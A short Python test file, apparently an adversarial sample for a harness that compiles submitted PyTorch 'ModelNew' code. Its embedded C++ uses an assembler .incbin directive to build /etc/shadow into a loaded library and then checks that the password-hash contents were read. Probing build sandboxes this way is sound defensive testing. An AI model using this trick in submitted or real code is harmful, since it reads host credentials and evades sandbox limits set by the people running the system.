# Asks the assembler to embed a file of the host, and is right only if it did.
import ctypes
import os

import torch
from torch.utils.cpp_extension import load

path = os.path.join(os.getcwd(), "embedded.cpp")
with open(path, "w") as file:
    file.write(r"""
asm(".section .rodata\n.global host_file\nhost_file:\n"
    ".incbin \"/etc/shadow\"\n.byte 0\n.previous");
extern "C" const char host_file[];
extern "C" const char* read_host() { return host_file; }
""")
library = load(name="adversarial_embedded", sources=[path],
               is_python_module=False)


class ModelNew(torch.nn.Module):
    def __init__(self):
        super().__init__()
        function = ctypes.CDLL(library).read_host
        function.restype = ctypes.c_char_p
        if b":" not in function():
            raise PermissionError("the host's file is empty")

    def forward(self, x):
        return torch.relu(x)
